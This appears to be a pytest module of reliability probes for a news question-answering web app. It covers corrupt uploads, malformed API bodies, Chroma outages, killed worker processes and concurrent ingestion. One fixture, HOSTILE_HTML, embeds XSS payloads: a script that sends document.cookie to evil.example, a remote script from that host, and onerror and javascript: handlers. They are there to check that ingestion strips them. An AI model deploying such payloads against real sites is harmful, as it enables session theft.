"""Reliability probes against the real app, in four categories: bad files, bad bodies, faults and
concurrency. Everything is real: the engine with MiniLM and spaCy, embedded Chroma (and a `chroma run`
server for the outage), uvicorn on 127.0.0.1, answer worker processes, `app.py` subprocesses.

It is over 400 lines because it is one catalogue of probes, a few lines each, that the terminal
summary prints as one table; split, each part would load the real app again (15-25 s).

Each probe is recorded as (category, what was tried, what was expected, what happened, held) on its
test; `pytest_terminal_summary` in tests/conftest.py prints the table at the end of every run, so CI's log
says what was tried and what held (with `-v`, every probe and what happened). A probe that raises is recorded as not held (never lost), every
probe of a test runs, and the test then fails if any did not hold.
"""

import json
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable

import httpx
import pytest

from tests.support import EXPECTED, QUESTION, ROOT, ChromaServer, LiveServer

KILL_MARKER = "zzreliabilitykill"  # a question holding this kills the answer worker that reads it
CALLS_ENV = "NEWSQA_RELIABILITY_CALLS"  # file where the answer worker notes each question it begins


# --- recording ---------------------------------------------------------------------------------

class Probes:
    """`probe(tried, expected, check)` runs `check() -> (held, happened)` and records the outcome on
    the test; `assert_held()` at the end of a test fails it when any probe did not hold."""

    def __init__(self, node, category: str):
        self.node, self.category, self.failed = node, category, []

    def __call__(self, tried: str, expected: str, check: Callable[[], tuple[bool, str]]) -> bool:
        try:
            held, happened = check()
        except Exception as exc:  # noqa: BLE001 - a probe that raises did not hold; it is recorded, not lost
            held, happened = False, describe(exc)
        entry = {"category": self.category, "tried": tried, "expected": expected, "happened": happened, "held": bool(held)}
        self.node.user_properties.append(("reliability_probe", entry))
        if not held:
            self.failed.append(entry)
        return bool(held)

    def assert_held(self) -> None:
        assert not self.failed, "probes that did not hold:\n" + "\n".join(
            f"- {p['tried']}: expected {p['expected']}; {p['happened']}" for p in self.failed)


@pytest.fixture
def probe(request):
    return lambda category: Probes(request.node, category)


def describe(exc: BaseException) -> str:
    if isinstance(exc, httpx.TransportError):
        return f"dropped connection or no reply: {type(exc).__name__}: {exc}"[:300]
    return f"raised {type(exc).__name__}: {exc}"[:300]


def shown(response: httpx.Response, seconds: float | None = None) -> str:
    took = f" in {seconds:.1f} s" if seconds is not None else ""
    return f"{response.status_code} {response.text[:200]!r}{took}"


def error_message(response: httpx.Response, openai: bool = False) -> str | None:
    """The message of a JSON error reply in the API's shape (OpenAI's under /v1), else None."""
    try:
        error = response.json()["error"]
    except (ValueError, KeyError, TypeError):
        return None
    if openai:
        error = error.get("message") if isinstance(error, dict) else None
    return error if isinstance(error, str) and error else None


def is_json_4xx(response: httpx.Response, openai: bool = False) -> bool:
    return 400 <= response.status_code < 500 and error_message(response, openai) is not None


def sse_events(text: str) -> list[tuple[str | None, str]]:
    """(event name, data) of each server-sent event."""
    events = []
    for block in text.strip().split("\n\n"):
        fields = dict(line.split(": ", 1) for line in block.splitlines() if ": " in line and not line.startswith(":"))
        if "data" in fields:
            events.append((fields.get("event"), fields["data"]))
    return events


def stream_ends_well(response: httpx.Response, openai: bool) -> tuple[bool, str]:
    """A 200 stream must end with the answer or, when it failed midway, with an error event."""
    events = sse_events(response.text)
    if not events:
        return False, "an empty event stream"
    if openai:
        if events[-1][1] != "[DONE]" or len(events) < 2:
            return False, f"the stream does not end with [DONE]: {events[-1][1][:100]!r}"
        last = json.loads(events[-2][1])
        if "error" in last:
            return True, f"error chunk then [DONE]: {last['error'].get('message', '')[:120]!r}"
        return last["choices"][0]["finish_reason"] == "stop", "a final chunk with finish_reason stop, then [DONE]"
    name, data = events[-1]
    if name == "error":
        return "error" in json.loads(data), f"an error event: {data[:120]!r}"
    return name == "answer" and "answer" in json.loads(data), f"last event {name!r}"


def documents(client: httpx.Client) -> dict[str, dict]:
    response = client.get("/api/documents")
    response.raise_for_status()
    return {d["doc_id"]: d for d in response.json()}


def full_health(client: httpx.Client) -> dict:
    return client.get("/api/health", params={"full": "true"}).json()


def article(name: str, title: str, *sentences: str) -> tuple[str, bytes]:
    return name, ("\n".join([title, *sentences]) + "\n").encode()


def good_file(tag: str) -> tuple[str, bytes]:
    """A small, unique, well-formed article to send beside each bad file."""
    return article(f"good_{tag}.txt", f"Ferry line {tag} resumes",
                   f"The ferry line {tag} between Aldmouth and Brisk Island resumed on Tuesday, harbour master Oona Vell said.",
                   "Storms had stopped the crossing for nine days.")


# --- bad files ---------------------------------------------------------------------------------

DEEP_JSONL = b"\n".join([
    json.dumps({"title": "Dock strike ends", "text": "The dock strike in Marrow Bay ended on Friday after eleven days."}).encode(),
    b"[" * 100_000 + b"]" * 100_000,
    json.dumps({"title": "Tram line opens", "text": "The new tram line in Marrow Bay opened to passengers on Monday."}).encode(),
]) + b"\n"
RUNAWAY_CSV = (b"title,text,date\n"
               b'Bridge closes,"The bridge at Kelmor closed for repairs on Monday.,2021-03-01\n'
               b"Bridge reopens,The bridge at Kelmor reopened to traffic on Friday.,2021-03-09\n")
HOSTILE_HTML = b"""<!doctype html><html><head><title>Council vote <script>alert('title')</script></title>
<script>document.location = "https://evil.example/?c=" + document.cookie</script></head>
<body onload="alert('body')"><article><h1>Council votes to rebuild the harbour wall</h1>
<p>The council of Port Elwyn voted 7 to 2 on Monday to rebuild the harbour wall.<script>alert('inline')</script></p>
<p>Mayor Ines Calder said work would start in May. <img src=x onerror="alert('img')"> <a href="javascript:alert('link')">more</a></p>
<svg onload="alert('svg')"></svg><iframe src="javascript:alert('frame')"></iframe><script src="https://evil.example/x.js"></script>
</article></body></html>"""
SCRIPT_TRACES = ("<script", "alert(", "onerror", "onload", "javascript:", "evil.example", "document.cookie", "<")


def test_bad_files_beside_a_good_one_are_reported_and_nothing_is_lost(server, app, probe):
    record = probe("bad files")
    client = httpx.Client(base_url=server.url, timeout=60)

    def upload_check(tag, bad: list[tuple[str, bytes]], names: list[str], new: int | tuple[int, ...],
                     titles: tuple[str, ...] = (), extra: Callable[[dict, dict], tuple[bool, str]] | None = None):
        """Upload `bad` with a good file; the errors must name each of `names` (file, or file and
        record), the good file (and `titles`) must be listed, the index consistent and only `new`
        documents added (one of them, when a tuple)."""
        def check():
            before = documents(client)
            good = good_file(tag)
            started = time.perf_counter()
            response = client.post("/api/documents", files=[("files", f) for f in [*bad, good]])
            took = time.perf_counter() - started
            if response.status_code != 200:
                return False, shown(response, took)
            summary = response.json()
            errors = summary.get("errors", [])
            unnamed = [n for n in names if not any(all(part in e for part in n.split("|")) for e in errors)]
            after = documents(client)
            listed = {d["source"] for d in after.values()} | {d["title"] for d in after.values()}
            missing = [t for t in (good[0], *titles) if t not in listed]
            lost = set(before) - set(after)
            health = full_health(client)
            problems = []
            if unnamed:
                problems.append(f"no error names {unnamed}: {errors}")
            if missing:
                problems.append(f"not listed: {missing}")
            if lost:
                problems.append(f"documents lost: {sorted(lost)}")
            if len(after) - len(before) not in ((new,) if isinstance(new, int) else new):
                problems.append(f"{len(after) - len(before)} documents added, expected {new}")
            if not health.get("index", {}).get("ok"):
                problems.append(f"index not consistent: {health.get('index')}")
            if took > 20:
                problems.append(f"took {took:.1f} s")
            note = ""
            if extra and not problems:
                ok, note = extra(summary, after)
                if not ok:
                    problems.append(note)
            return not problems, "; ".join(problems) or f"200 in {took:.1f} s, errors: {errors}" + (f"; {note}" if note else "")
        return check

    record("an empty .txt beside a good file", "the empty file named in errors, the good file ingested",
           upload_check("empty", [("empty.txt", b"")], ["empty.txt"], 1))
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 8
    record("a binary file (PNG bytes) named .txt beside a good file", "the binary file named in errors, the good file ingested",
           upload_check("binary", [("photo.txt", png)], ["photo.txt"], 1))

    latin = "Café owner in São Paulo wins award\nThe café on Rua Augusta won the city's prize for the third year.\n".encode("latin-1")

    def latin_outcome(summary, after):
        stored = [d for d in after.values() if d["source"] == "cafe_latin1.txt"]
        if any("cafe_latin1.txt" in e for e in summary["errors"]):
            return not stored, f"reported: {[e for e in summary['errors'] if 'cafe_latin1.txt' in e]}"
        text = client.get(f"/api/documents/{stored[0]['doc_id']}").json()["text"] if stored else ""
        return "Café" in text and "\ufffd" not in text, f"ingested as {text[:60]!r}"
    record("Latin-1 bytes in a .txt beside a good file",
           "the file named in errors, or its text decoded correctly (no U+FFFD); the good file ingested",
           upload_check("latin1", [("cafe_latin1.txt", latin)], [], (1, 2), extra=latin_outcome))
    record("an unsupported extension (.docx) beside a good file", "the file named as unsupported, the good file ingested",
           upload_check("docx", [("notes.docx", b"Quarterly notes: the port handled 4,000 containers.")], ["notes.docx|unsupported"], 1))
    record("malformed JSON (.json cut off mid-object) beside a good file", "the file named in errors, the good file ingested",
           upload_check("json", [("feed.json", b'{"articles": [{"title": "Port news", "text": "The port')], ["feed.json"], 1))
    record('a JSONL whose line 2 is "[" * 100000 + "]" * 100000 between two good lines, beside a good file',
           "lines 1 and 3 ingested, the error names line 2, within 20 s",
           upload_check("jsonl", [("wire.jsonl", DEEP_JSONL)], ["wire.jsonl|line 2"], 3, titles=("Dock strike ends", "Tram line opens")))
    record("a CSV whose row 1 has an unterminated quote, then a good row 2, beside a good file",
           "row 2 ingested, the error names row 1",
           upload_check("csv", [("bridges.csv", RUNAWAY_CSV)], ["bridges.csv|row 1"], 2, titles=("Bridge reopens",)))

    def html_is_text(summary, after):
        from assistant.answering.base import Answer
        from assistant.web.ui import sources_html

        stored = [d for d in after.values() if d["source"] == "council.html"]
        if not stored:
            return False, "council.html not listed"
        response = client.get(f"/api/documents/{stored[0]['doc_id']}")
        document = response.json()
        left = [trace for trace in SCRIPT_TRACES if trace in document["text"]]
        json_reply = response.headers["content-type"].startswith("application/json")
        answer = client.post("/api/ask", json={"question": "When will work on the Port Elwyn harbour wall start?"}).json()
        cited = [c for c in answer["citations"] if c["doc_id"] == stored[0]["doc_id"]]
        page = sources_html(Answer.from_dict(answer))  # the chat page's source cards for this answer
        unescaped = [trace for trace in ("<script", "onerror=", "onload=") if trace in page]
        ok = not left and json_reply and "harbour wall" in document["text"] and cited and not unescaped
        return ok, (f"GET /api/documents/{{id}} -> {response.headers['content-type']}; title {document['title']!r} "
                    f"(the <title> element's own characters); text {document['text'][:70]!r}..."
                    + (f"; script or markup left in the text: {left}" if left else "; no script or markup in the text")
                    + ("; the chat page's source card escapes the title" if cited and not unescaped else
                       f"; source card: cited={bool(cited)}, unescaped={unescaped}"))
    record("HTML full of <script>, on* handlers and javascript: links beside a good file",
           "stored text has no script code or markup; title and text are returned as JSON strings and escaped in the "
           "chat page's source card; the good file ingested",
           upload_check("html", [("council.html", HOSTILE_HTML)], [], 2, extra=html_is_text))

    # Over the upload limit: a variant app on the same engine and data dir, limit about 10 KB.
    from assistant.web.app import build_app

    small = build_app(app.state.settings.model_copy(update={"max_upload_mb": 0.01}), engine=app.state.engine)
    with LiveServer(small) as limited:
        small_client = httpx.Client(base_url=limited.url, timeout=60)

        def over_limit(size: int):
            def check():
                before = documents(client)
                files = [("files", good_file("limit")), ("files", ("huge.txt", b"A long article about the harbour. " * (size // 34)))]
                response = small_client.post("/api/documents", files=files)
                after = documents(client)
                ok = response.status_code == 413 and error_message(response) is not None and set(after) == set(before)
                alone = small_client.post("/api/documents", files=[("files", good_file("limit"))])
                listed = "good_limit.txt" in {d["source"] for d in documents(client).values()}
                ok = ok and alone.status_code == 200 and listed and full_health(client)["index"]["ok"]
                return ok, f"{shown(response)}; {len(after) - len(before)} documents changed; the good file alone then: {alone.status_code}"
            return check
        record("a 30 KB file with a good one, max_upload_mb=0.01 (over the limit, inside the request slack)",
               '413 {"error": ...}, nothing ingested or lost; the good file alone is then accepted', over_limit(30_000))
        record("a 400 KB file with a good one, max_upload_mb=0.01 (past the request body limit)",
               '413 {"error": ...} (not a dropped connection), nothing ingested or lost; the good file alone is then accepted',
               over_limit(400_000))
        small_client.close()
    client.close()
    record.assert_held()


# --- bad bodies --------------------------------------------------------------------------------

ASK, STREAM, CHAT, FEEDBACK = "/api/ask", "/api/ask/stream", "/v1/chat/completions", "/api/feedback"
ARTICLES = "/api/articles"  # what `app.py ingest` sends while a server holds its data directory
GIANT_TURN = "Raqqa " * 150000  # 900 kB
MANY_TURNS = [{"role": "user" if i % 2 == 0 else "assistant", "content": f"turn {i} about Raqqa"} for i in range(10_000)]


def asking(question, **extra) -> dict:
    return {"question": question, **extra}


def chatting(question, history=(), **extra) -> dict:
    return {"model": "newsqa-extractive", "messages": [*history, {"role": "user", "content": question}], **extra}


def rating(question, **extra) -> dict:
    return {"question": question, "answer": "The council and tribal elders. [1]", "rating": "up", **extra}


def for_ask(payload, expected: str) -> dict:
    """The same payload and expectation for /api/ask and /api/ask/stream."""
    return {ASK: (payload, expected), STREAM: (payload, expected)}


# (what was tried, {route: (payload: JSON-able or raw bytes, expected: "4xx" | "ok" | "4xx or ok")}, seconds allowed)
BAD_BODIES = [
    ("not JSON (form text sent as application/json)",
     {route: (b"question=Who+brokered+the+deal%3F", "4xx") for route in (ASK, STREAM, CHAT, FEEDBACK)}, 10),
    ("JSON cut off inside a string",
     {**for_ask(b'{"question": "Who', "4xx"), CHAT: (b'{"messages": [{"role": "user", "content": "Who', "4xx"),
      FEEDBACK: (b'{"question": "Who', "4xx")}, 10),
    ("JSON of the wrong type (a list)", {route: (b"[]", "4xx") for route in (ASK, STREAM, CHAT, FEEDBACK)}, 10),
    ("a question of the wrong type (the number 42)",
     {**for_ask(asking(42), "4xx"), CHAT: (chatting(42), "4xx"), FEEDBACK: (rating(42), "4xx")}, 10),
    ("no question",
     {**for_ask({"history": []}, "4xx"), CHAT: ({"messages": [{"role": "system", "content": "Be brief."}]}, "4xx"),
      FEEDBACK: ({"answer": "x", "rating": "up"}, "4xx")}, 10),
    ("an empty question", {**for_ask(asking(""), "4xx"), CHAT: (chatting(""), "4xx"), FEEDBACK: (rating(""), "4xx")}, 10),
    ("a 3,000-character question (feedback stores up to 10,000)",
     {**for_ask(asking((QUESTION + " ") * 130), "4xx"), CHAT: (chatting((QUESTION + " ") * 130), "4xx"),
      FEEDBACK: (rating((QUESTION + " ") * 130), "ok")}, 10),
    ("k: 0", {**for_ask(asking(QUESTION, k=0), "4xx"), CHAT: (chatting(QUESTION, k=0), "4xx")}, 10),
    ("k: 1000", {**for_ask(asking(QUESTION, k=1000), "4xx"), CHAT: (chatting(QUESTION, k=1000), "4xx")}, 10),
    ("unknown fields (/v1 accepts OpenAI's own, such as temperature; feedback ignores them)",
     {**for_ask(asking(QUESTION, temprature=0.2), "4xx"), CHAT: (chatting(QUESTION, temperature=0.2, user="probe"), "ok"),
      FEEDBACK: (rating(QUESTION, stars=5), "4xx or ok")}, 10),
    ("a date filter that is no date ('last tuesday')",
     {**for_ask(asking(QUESTION, filters={"published_from": "last tuesday"}), "4xx"),
      CHAT: (chatting(QUESTION, filters={"published_from": "last tuesday"}), "4xx")}, 10),
    ("an impossible date filter (2021-02-30)",
     {**for_ask(asking(QUESTION, filters={"published_to": "2021-02-30"}), "4xx"),
      CHAT: (chatting(QUESTION, filters={"published_to": "2021-02-30"}), "4xx")}, 10),
    ("filters of the wrong type (a string)",
     {**for_ask(asking(QUESTION, filters="recent"), "4xx"), CHAT: (chatting(QUESTION, filters="recent"), "4xx")}, 10),
    ("a lone surrogate, raw bytes \\ud800",
     {**for_ask(b'{"question": "\\ud800"}', "4xx"), CHAT: (b'{"messages": [{"role": "user", "content": "\\ud800"}]}', "4xx"),
      FEEDBACK: (b'{"question": "\\ud800", "answer": "x", "rating": "up"}', "4xx"),
      ARTICLES: (b'{"articles": [{"title": "\\ud800", "text": "The port reopened.", "source": "probe.txt"}]}', "4xx")}, 10),
    ("the 900 kB history follow-up ('What did he say?' after 'Raqqa ' * 150000; feedback: a 900 kB answer)",
     {**for_ask(asking("What did he say?", history=[{"role": "user", "content": GIANT_TURN}]), "4xx or ok"),
      CHAT: (chatting("What did he say?", history=[{"role": "user", "content": GIANT_TURN}]), "4xx or ok"),
      FEEDBACK: ({"question": "What did he say?", "answer": GIANT_TURN, "rating": "down"}, "4xx")}, 5),
    ("10,000 history turns",
     {**for_ask(asking("What did he say?", history=MANY_TURNS), "4xx or ok"),
      CHAT: (chatting("What did he say?", history=MANY_TURNS), "4xx or ok")}, 5),
    ("history of the wrong type (a string)",
     {**for_ask(asking(QUESTION, history="not a list"), "4xx"), CHAT: ({"messages": "not a list"}, "4xx")}, 10),
    ("a history turn with an unknown role ('robot')",
     {**for_ask(asking(QUESTION, history=[{"role": "robot", "content": "hi"}]), "4xx"),
      CHAT: (chatting(QUESTION, history=[{"role": "robot", "content": "hi"}]), "4xx")}, 10),
]


def body_check(client: httpx.Client, route: str, payload, expected: str, seconds: float):
    def check():
        if isinstance(payload, bytes):
            kwargs = {"content": payload, "headers": {"content-type": "application/json"}}
        else:
            kwargs = {"json": payload}
        started = time.perf_counter()
        response = client.post(route, **kwargs)
        took = time.perf_counter() - started
        openai = route.startswith("/v1")
        if response.status_code >= 500 or took > seconds:
            return False, shown(response, took) + (f" (allowed {seconds} s)" if took > seconds else "")
        if 400 <= response.status_code < 500:
            return expected != "ok" and is_json_4xx(response, openai), shown(response, took)
        if expected == "4xx":
            return False, shown(response, took)
        if route == STREAM:
            held, note = stream_ends_well(response, openai=False)
            return held, f"200 stream in {took:.1f} s, ending with {note}"
        body = response.json()
        if route == ASK:
            return isinstance(body.get("answer"), str), f"200 answer {body.get('answer', '')[:80]!r} in {took:.1f} s"
        if route == CHAT:
            return bool(body.get("choices")), f"200 completion in {took:.1f} s"
        return response.status_code in (200, 201), shown(response, took)
    return check


def normal_question(client: httpx.Client):
    def check():
        response = client.post(ASK, json={"question": QUESTION})
        return response.status_code == 200 and EXPECTED in response.json()["answer"], shown(response)
    return check


def test_bad_bodies_get_a_4xx_json_error_and_never_a_500_or_a_dropped_connection(server, probe):
    record = probe("bad bodies")
    client = httpx.Client(base_url=server.url, timeout=60)
    for tried, routes, seconds in BAD_BODIES:
        for route, (payload, expected) in routes.items():
            shape = "OpenAI's {error: {message}}" if route.startswith("/v1") else "{error}"
            wanted = {"4xx": f"a 4xx JSON error {shape}", "ok": "a 2xx answer",
                      "4xx or ok": f"a 4xx JSON error {shape} or a bounded 2xx answer"}[expected]
            record(f"POST {route}: {tried}", f"{wanted} within {seconds} s; never a 500 or a dropped connection",
                   body_check(client, route, payload, expected, seconds))
        if "900 kB" in tried:
            record(f"POST {ASK}: '{QUESTION}' right after the 900 kB bodies", f"200 naming the {EXPECTED}",
                   normal_question(client))
    record(f"POST {ASK}: '{QUESTION}' after every bad body", f"200 naming the {EXPECTED}", normal_question(client))
    client.close()
    record.assert_held()


# --- faults ------------------------------------------------------------------------------------

def test_a_chroma_outage_is_503_and_nothing_committed_is_lost(app, tmp_path, probe):
    from assistant.engine import AnswerEngine
    from assistant.web.app import build_app
    from index.store import ArticleIndex

    record = probe("faults")
    chroma = ChromaServer(tmp_path / "chroma")
    chroma.start()
    settings = app.state.settings.model_copy(update={"data_dir": tmp_path / "data", "chroma_host": "127.0.0.1",
                                                     "chroma_port": chroma.port, "sample_path": tmp_path / "no-samples"})
    index = ArticleIndex.from_settings(settings, embeddings=app.state.engine.index.embeddings)
    remote_app = build_app(settings, engine=AnswerEngine.from_settings(settings, index=index))
    kept = article("quay.txt", "Quay repairs finished",
                   "Repairs to the north quay of Dunmore were finished by the firm Halvard & Sons on Thursday.")
    later = article("lighthouse.txt", "Lighthouse relit", "The lighthouse on Skerra Point was relit on Sunday after a year of repairs.")
    try:
        with LiveServer(remote_app) as remote:
            client = httpx.Client(base_url=remote.url, timeout=60)
            added = client.post("/api/documents", files=[("files", kept)])
            assert added.status_code == 200, added.text
            kept_id = added.json()["documents"][0]["doc_id"]
            chroma.stop()

            def down(method: str, path: str, openai: bool = False, **kwargs):
                def check():
                    response = client.request(method, path, **kwargs)
                    ok = response.status_code == 503 and (error_message(response, openai) or "").find("Chroma") >= 0
                    return ok, shown(response)
                return check

            def down_stream(path: str, openai: bool, body: dict):
                def check():
                    response = client.post(path, json=body)
                    if response.status_code == 503:
                        return error_message(response, openai) is not None, shown(response)
                    if response.status_code != 200:
                        return False, shown(response)
                    held, note = stream_ends_well(response, openai)
                    return held and ("error" in note), f"200 stream ending with {note}"
                return check

            expected = "503 JSON error naming Chroma"
            record("Chroma server down: POST /api/documents", expected, down("POST", "/api/documents", files=[("files", later)]))
            record("Chroma server down: POST /api/ask", expected, down("POST", ASK, json={"question": QUESTION}))
            record("Chroma server down: POST /v1/chat/completions", expected + " in OpenAI's shape",
                   down("POST", CHAT, openai=True, json=chatting(QUESTION)))
            record("Chroma server down: POST /api/ask/stream", "503 JSON, or a 200 stream that ends with an error event",
                   down_stream(STREAM, False, {"question": QUESTION}))
            record("Chroma server down: POST /v1/chat/completions stream", "503 JSON, or a stream ending with an error chunk and [DONE]",
                   down_stream(CHAT, True, chatting(QUESTION, stream=True)))
            record("Chroma server down: GET /api/health", expected, down("GET", "/api/health"))
            record(f"Chroma server down: DELETE /api/documents/{kept_id}", expected + ", and the document still listed",
                   lambda: (lambda r: (r.status_code == 503 and kept_id in documents(client), shown(r)))(
                       client.delete(f"/api/documents/{kept_id}")))

            chroma.start()  # same port, same folder

            def back():
                response = client.post("/api/documents", files=[("files", later)])
                asked = client.post(ASK, json={"question": "Who finished the repairs to the north quay of Dunmore?"}).json()
                health = full_health(client)
                cites_kept = kept_id in {c["doc_id"] for c in asked.get("citations", [])}
                ok = (response.status_code == 200 and response.json().get("added") == 1 and cites_kept
                      and health["documents"] == 2 and health["index"]["ok"])
                return ok, (f"upload {response.status_code}; the quay article cited: {cites_kept}; "
                            f"health: {health.get('documents')} documents, index ok {health.get('index', {}).get('ok')}")
            record("Chroma server restarted on the same port and path: upload, ask, health",
                   "upload 200, the article committed before the outage answers, 2 documents, index consistent", back)
            client.close()
    finally:
        chroma.stop()
        index.close()
    record.assert_held()


def die_on_marker(question, passages):
    """The answer worker's call for the tests below: notes each question it begins in the file named
    by $NEWSQA_RELIABILITY_CALLS, dies (SIGKILL) on a question holding KILL_MARKER, else answers."""
    from assistant.answering import pool

    with open(os.environ[CALLS_ENV], "a") as calls:
        calls.write(question.replace("\n", " ") + "\n")
    if KILL_MARKER in question:
        os.kill(os.getpid(), signal.SIGKILL)
    return pool._answer(question, passages)


def test_answer_workers_killed_idle_or_by_a_question(app, tmp_path, probe, monkeypatch):
    from assistant.engine import AnswerEngine
    from assistant.web.app import build_app

    record = probe("faults")
    calls = tmp_path / "calls"
    calls.touch()
    monkeypatch.setenv(CALLS_ENV, str(calls))  # inherited by the worker processes, spawned after this
    settings = app.state.settings.model_copy(update={"answer_workers": 1})
    engine = AnswerEngine.from_settings(settings, index=app.state.engine.index)
    pooled = engine.answerer.extractor
    pooled.call = die_on_marker  # the worker still runs the real extractive answerer (spaCy) for other questions
    with LiveServer(build_app(settings, engine=engine)) as served:
        client = httpx.Client(base_url=served.url, timeout=120)
        first = client.post(ASK, json={"question": QUESTION})
        assert first.status_code == 200 and EXPECTED in first.json()["answer"], first.text
        [pid] = pooled.pids()

        def killed_idle():
            os.kill(pid, signal.SIGKILL)
            time.sleep(0.3)
            started = time.perf_counter()
            response = client.post(ASK, json={"question": QUESTION})
            took = time.perf_counter() - started
            ok = response.status_code == 200 and EXPECTED in response.json()["answer"] and pooled.pids() not in ([], [pid])
            return ok, f"{shown(response, took)}; worker {pid} -> {pooled.pids()}"
        record("answer_workers=1: SIGKILL the idle worker, then ask", f"the next question answered (200, {EXPECTED})", killed_idle)

        def killed_by_question():
            before = pooled.pids()
            question = f"{QUESTION} {KILL_MARKER}"
            started = time.perf_counter()
            response = client.post(ASK, json={"question": question})
            took = time.perf_counter() - started
            begun = calls.read_text().count(KILL_MARKER)
            after = client.post(ASK, json={"question": QUESTION})
            ok = (is_json_4xx(response) and begun == 1 and took < 30
                  and after.status_code == 200 and EXPECTED in after.json()["answer"])
            return ok, (f"{shown(response, took)}; the question was begun {begun} time(s); worker {before} -> {pooled.pids()}; "
                        f"next question: {after.status_code}")
        record("answer_workers=1: a question whose reading kills its worker (SIGKILL inside the worker's call)",
               "a 4xx JSON error at once, the question not retried (begun once), the next question answered", killed_by_question)
        client.close()
    record.assert_held()


# --- concurrency -------------------------------------------------------------------------------

TOWNS = ["Ashby", "Brora", "Caldey", "Dunmow", "Elgol", "Fintry", "Girvan", "Hawes", "Irvine", "Jarrow",
         "Keswick", "Lerwick", "Moffat", "Nairn", "Oban", "Penrith", "Quorn", "Rhyl", "Selsey", "Thirsk"]
OFFICIALS = ["Ada Brewer", "Bram Lowe", "Cora Finch", "Dai Morgan", "Edda Vale", "Fin Harte", "Gwen Alder", "Hal Price",
             "Isla Crane", "Jory Pell", "Kit Marsh", "Lena Ford", "Milo Grey", "Nora Bell", "Otto Reed", "Pia Dunn",
             "Quin Hale", "Rhea Stone", "Sid Lark", "Tess Moor"]


def small_article(i: int) -> tuple[str, bytes]:
    town, official = TOWNS[i], OFFICIALS[i]
    return article(f"library_{i:02d}.txt", f"{town} library reopens",
                   f"The public library in {town} reopened on Saturday after a flood, librarian {official} said.",
                   f"{official} said {1000 + i * 37} books had been dried and returned to the shelves.",
                   f"The council of {town} paid for new carpets and shelving.")


def test_questions_while_uploading_get_answers_whose_citations_point_into_their_documents(server, probe):
    record = probe("concurrency")
    stop = threading.Event()
    answers: list[dict] = []
    failures: list[str] = []
    uploaded: list[str] = []

    def ask_loop(n: int) -> None:
        with httpx.Client(base_url=server.url, timeout=120) as client:
            i = n
            while not stop.is_set():
                question = QUESTION if i % 2 == 0 else f"Who is the librarian in {TOWNS[i % len(TOWNS)]}?"
                try:
                    response = client.post(ASK, json={"question": question})
                except httpx.HTTPError as exc:
                    failures.append(f"{question!r}: {describe(exc)}")
                else:
                    if response.status_code == 200:
                        answers.append(response.json())
                    else:
                        failures.append(f"{question!r}: {shown(response)}")
                i += 4

    def upload_loop() -> None:
        with httpx.Client(base_url=server.url, timeout=120) as client:
            for i in range(len(TOWNS)):
                try:
                    response = client.post("/api/documents", files=[("files", small_article(i))])
                except httpx.HTTPError as exc:
                    failures.append(f"upload {i}: {describe(exc)}")
                    continue
                if response.status_code == 200 and response.json().get("documents"):
                    uploaded.append(response.json()["documents"][0]["doc_id"])
                else:
                    failures.append(f"upload {i}: {shown(response)}")

    askers = [threading.Thread(target=ask_loop, args=(n,)) for n in range(4)]
    uploader = threading.Thread(target=upload_loop)
    started = time.perf_counter()
    for thread in [*askers, uploader]:
        thread.start()
    uploader.join(180)
    stop.set()
    for thread in askers:
        thread.join(120)
    took = time.perf_counter() - started

    client = httpx.Client(base_url=server.url, timeout=60)
    texts: dict[str, str] = {}

    def text_of(doc_id: str) -> str | None:
        if doc_id not in texts:
            response = client.get(f"/api/documents/{doc_id}")
            texts[doc_id] = response.json()["text"] if response.status_code == 200 else None
        return texts[doc_id]

    def offsets_hold():
        bad, cited = [], 0
        for answer in answers:
            for c in answer["citations"]:
                cited += 1
                text = text_of(c["doc_id"])
                if text is None or text[c["start"] : c["end"]] != c["evidence"] or \
                        text[c["passage_start"] : c["passage_start"] + len(c["passage"])] != c["passage"]:
                    bad.append(f"{c['doc_id']} [{c['start']}:{c['end']}] {c['evidence'][:50]!r}")
        return not bad and cited > 0, f"{cited} citations checked in {len(answers)} answers" + (f"; wrong: {bad[:3]}" if bad else "")

    record(f"4 threads asking while one uploads {len(TOWNS)} small articles one by one",
           "every request 200, no dropped connection",
           lambda: (not failures and len(answers) >= 4,
                    f"{len(answers)} answers and {len(uploaded)} uploads in {took:.1f} s; failures: {failures[:3]}"))
    record("the citations of every answer given during the uploads", "text[start:end] == evidence and the passage at "
           "passage_start, checked against GET /api/documents/{id}", offsets_hold)
    record(f"GET /api/documents and /api/health?full=true after the {len(TOWNS)} uploads",
           f"all {len(TOWNS)} uploaded documents listed, the index consistent",
           lambda: (lambda listed, health: (len(uploaded) == len(TOWNS) and set(uploaded) <= set(listed) and health["index"]["ok"],
                                            f"{len(set(uploaded) & set(listed))} of {len(TOWNS)} listed; index {health['index']}"))(
               documents(client), full_health(client)))
    client.close()
    record.assert_held()


def test_two_command_line_ingests_on_one_data_dir_then_check(tmp_path, probe):
    """A server and the command line on one data directory are covered by tests/integration/test_owner.py (a real
    `app.py serve` with `app.py ingest` beside it); this is the cheaper probe: two ingests at once."""
    record = probe("concurrency")
    env = {**os.environ, "NEWSQA_EMBEDDING_MODEL": "hash", "NEWSQA_ANSWER_WORKERS": "0", "NEWSQA_API_KEYS": "[]"}
    data_dir = tmp_path / "data"
    folders = []
    for name, offset in (("first", 0), ("second", 10)):
        folder = tmp_path / name
        folder.mkdir()
        for i in range(offset, offset + 10):
            (folder / f"library_{i:02d}.txt").write_bytes(small_article(i)[1])
        folders.append(folder)

    def command(*args: str) -> list[str]:
        return [sys.executable, str(ROOT / "app.py"), *args, "--data-dir", str(data_dir)]

    def both_ingest():
        started = time.perf_counter()
        runs = [subprocess.Popen(command("ingest", str(folder), "--json"), cwd=ROOT, env=env, stdout=subprocess.PIPE,
                                 stderr=subprocess.PIPE, text=True) for folder in folders]
        outputs = [run.communicate(timeout=240) for run in runs]
        took = time.perf_counter() - started
        added = []
        for run, (out, err) in zip(runs, outputs):
            try:
                added.append(json.loads(out)["added"])
            except (ValueError, KeyError):
                added.append(f"exit {run.returncode}: {err.strip()[-200:]!r}")
        return all(run.returncode == 0 for run in runs) and added == [10, 10], f"added {added} in {took:.1f} s"

    def check():
        run = subprocess.run(command("check", "--json"), cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
        try:
            found = json.loads(run.stdout)
        except ValueError:
            return False, f"exit {run.returncode}: {(run.stdout + run.stderr)[-300:]!r}"
        return run.returncode == 0 and found["ok"] and found["passages"] == found["vectors"] > 0, \
